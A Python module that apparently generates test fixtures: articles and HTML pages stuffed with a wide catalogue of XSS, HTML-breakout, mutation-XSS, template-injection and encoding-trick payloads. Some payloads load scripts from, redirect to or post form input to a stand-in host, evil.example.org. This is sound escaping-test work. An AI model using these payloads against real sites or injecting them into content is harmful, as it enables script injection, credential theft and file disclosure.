"""Articles that try to become markup: every shape, so disguised, in every field, as JSON lines and as pages."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from html import escape
from pathlib import Path
from typing import Any
from urllib.parse import quote

FIRE = "window.ran=1;alert(1)"
SHAPES = (
    # script
    f"<script>{FIRE}</script>",
    f"<ScRiPt\t>{FIRE}</sCrIpT\n>",
    "<script src=//evil.example.org/x.js></script>",
    f"<script type=module>{FIRE}</script>",
    # handlers
    f"<img src=x onerror={FIRE}>",
    f"<svg/onload={FIRE}>",
    f"<body onload={FIRE}><details open ontoggle={FIRE}>",
    f'" autofocus onfocus="{FIRE}" x="',
    f"' onmouseover='{FIRE}' x='",
    f"`onmouseover={FIRE}`",
    f"<input autofocus onfocus={FIRE}><video><source onerror={FIRE}></video>",
    f"<style>@keyframes a{{}}</style><b style='animation-name:a' onanimationstart={FIRE}>",
    # what ends an element of ours
    "</title></head><body><h1>taken over</h1>",
    "</a></h2></li></ol></main></body></html><form action=//evil.example.org><input name=p>",
    f"</textarea></title></style></script></noscript></template><script>{FIRE}</script>",
    "</mark></cite></span></p></article>",
    f"--><script>{FIRE}</script><!--",
    "<!-- all that follows is mine",
    f"]]><script>{FIRE}</script><![CDATA[",
    "<plaintext>",
    "<xmp><listing><noembed><noframes>",
    # other documents
    f"<iframe srcdoc='<script>parent.{FIRE}</script>'></iframe>",
    "<object data=data:text/html,x><embed src=//evil.example.org>",
    "<base href=//evil.example.org/><meta http-equiv=refresh content='0;url=//evil.example.org'>",
    "<link rel=stylesheet href=//evil.example.org/x.css>",
    "<portal src=//evil.example.org><frameset><frame src=//evil.example.org>",
    # links
    f"<a href=javascript:{FIRE}>x</a>",
    f"<a href='&#106;ava\tscript:{FIRE}'>x</a>",
    f"<form action=javascript:{FIRE}><button formaction=javascript:{FIRE}>x",
    f"<a href=vbscript:msgbox(1) href=data:text/html,<script>{FIRE}</script>>x</a>",
    # style
    "<style>*{display:none}body{background:url(//evil.example.org)}</style>",
    "</style><p style='position:fixed;inset:0;background:url(//evil.example.org)'>",
    "expression(alert(1));@import '//evil.example.org';",
    # templates and data in scripts
    "{{7*7}}{% include '/etc/passwd' %}${7*7}#{7*7}<%= 7*7 %>",
    "{{config.items()}}{{''.__class__.__mro__}}%(asctime)s%s{0.__class__}",
    f'"}}</script><script>{FIRE}</script>{{"@type":"x',
    f"\\u003cscript\\u003e{FIRE}\\u003c/script\\u003e\\x3cimg src=x onerror={FIRE}\\x3e",
    '","url":"javascript:alert(1)"},{"x":"',
    # foreign namespaces, and what parsers repair otherwise than it was read
    f"<svg><script>{FIRE}</script><a xlink:href=javascript:{FIRE}><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={FIRE}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={FIRE}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={FIRE}>'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={FIRE} src>'>",
    f"<template shadowrootmode=open><script>{FIRE}</script></template>",
    f"<table><td background=javascript:{FIRE}><select><template><script>{FIRE}</script>",
    f"<svg><animate attributeName=href values=javascript:{FIRE} /><set attributeName=onmouseover to={FIRE}>",
    f"<image/src/onerror={FIRE}><isindex type=image onerror={FIRE}>",
    f"<mark><script>{FIRE}</script></mark><mark onclick={FIRE}>",
    # characters
    "\u202e\u2066 reversed <b>\u2069\u202c\u200b\u200d\ufeff\u2028\u2029",
    "caf\u0301\u0300\u0301" + "\u0489" * 40,
    "\x00<\x00s\x00cript>\x01\x08\x0b\x1b[31m\x7f",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;&#x3c;img src=x&#x3e;",
    f"<img alt='{'A' * 3000}' src=x onerror={FIRE}>",
    "\U000e003c\U000e0073\uff1cscript\uff1e\u02bc\u2039script\u203a",
)
DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    escape,
    lambda text: escape(escape(text)),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: "".join(f"&#x{ord(c):x};" if c in "<>\"'&=" else c for c in text),
    lambda text: f"\"></a>'></p>--></title>{text}",
    lambda text: f"\u202e{text}\u202c",
    lambda text: quote(text)[:1000],
    lambda text: text.upper(),
)
KINDS = len(SHAPES) * len(DISGUISES)
ADDRESSES = (
    "https://evil.example.org/{}",
    "https://evil.example.org/a?x={}#{}",
    "javascript:alert(1)//{}",
    "data:text/html,{}",
    "vbscript:{}",
    " java\tscript:{}",
    "//evil.example.org/{}",
    "https://evil.example.org@{}",
    "https:{}",
    "\x01javascript:{}",
)


def payload(number: int, place: int) -> str:
    """What an article has in a place: over `KINDS` articles, each place has everything."""
    kind = (number + 31 * place) % KINDS
    return DISGUISES[kind % len(DISGUISES)](SHAPES[kind // len(DISGUISES)])


def harmless(number: int, place: int) -> str:
    """What stands there in an article that means no harm."""
    return f"words {number} of place {place}"


Words = Callable[[int, int], str]


def article(number: int, words: Words = payload) -> dict[str, Any]:
    """As JSON lines have it. Every text has the word that all are searched by."""

    def said(place: int) -> str:
        return f"hostile {words(number, place)}"

    identity, day = f"h{number:05}", f"20{number % 20:02}-01-02"
    url = _address(number) if words is payload else None
    cited = _address(max(0, number - len(ADDRESSES))) if words is payload else None
    return {
        "id": identity,
        "url": url or f"https://good.example.org/{number}",
        "title": said(2),
        "section": said(3),
        "summary": said(4),
        "language": "en" if number % 3 else "fr",
        "published": day,
        "modified": f"2021-{day[5:]}",
        "image": url,
        "authors": [{"name": said(5), "bio": said(6), "url": url or "https://good.example.org/author"}],
        "tags": [said(7)],
        "passages": [
            {
                "id": f"{identity}#{words(number, 8)}",
                "question": said(9),
                "speaker": said(10),
                "answer": f"{said(11)}\nA line more.",
            },
            {"id": f"{identity}#2", "question": said(12), "answer": said(13), "anchor": words(number, 14)},
            {"id": f"{identity}#3", "answer": said(15)},
        ],
        "links": [{"url": cited or "https://good.example.org/0", "text": said(16)}],
    }


def _address(number: int) -> str:
    return ADDRESSES[number % len(ADDRESSES)].format(payload(number, 0), payload(number, 1))


PAGE = """<!doctype html><html lang="{lang}"><head><meta charset="utf-8"><title>Hostile {title}</title>
<meta name="author" content="{author}"><meta name="description" content="{summary}"><meta property="article:section" content="{section}">
<script type="application/ld+json">{data}</script></head><body><article><h1>Hostile {title}</h1>
<p>A hostile page says this in front, in words enough to be kept for a paragraph of an article by anybody.</p>
<h2 id="{anchor}">Is this hostile {question}?</h2><p>Some words, and a hostile text: {answer}</p>
<p>Words enough behind it, for those who read on: <a href="{link}">{text}</a> is where they lead.</p></article></body></html>"""


def page(number: int) -> bytes:
    """The same in the markup of a page; every other one with what ends in attributes and elements as it is, unescaped."""
    places = ("title", "author", "summary", "section", "anchor", "question", "answer", "link", "text")
    shown = escape if number % 2 else str
    values = {name: shown(payload(number, place)) for place, name in enumerate(places)}
    values["link"] = escape(ADDRESSES[number % len(ADDRESSES)].format(payload(number, 7), payload(number, 8)))
    data = {"@type": "Article", "headline": payload(number, 9), "author": {"name": payload(number, 10)}}
    text = PAGE.format(lang="en" if number % 3 else "fr", data=json.dumps(data), **values)
    return text.encode() + b"<p>\xc0\xbcscript\xc0\xbe \xe0\x80\xbc \xff</p>"


def lay(folder: Path, count: int) -> None:
    """So many hostile articles: half of them lines, half of them pages."""
    _write(folder / "articles.jsonl", (article(number) for number in range(count // 2)))
    for number in range(count // 2, count):
        (folder / f"p{number:05}.html").write_bytes(page(number))


def lay_harmless(folder: Path, count: int) -> None:
    """Articles of the same form, some without an address, a language or a speaker, whose pages have all that ours may have."""
    every = [article(number, harmless) for number in range(count)]
    for number, one in enumerate(every):
        for bit, name in enumerate(("url", "language", "section", "summary", "authors", "tags", "links", "published")):
            if number >> bit & 1:
                del one[name]
    _write(folder / "articles.jsonl", iter(every))


def _write(path: Path, articles: Iterator[dict[str, Any]]) -> None:
    with path.open("w", encoding="utf-8") as lines:
        lines.writelines(json.dumps(one) + "\n" for one in articles)
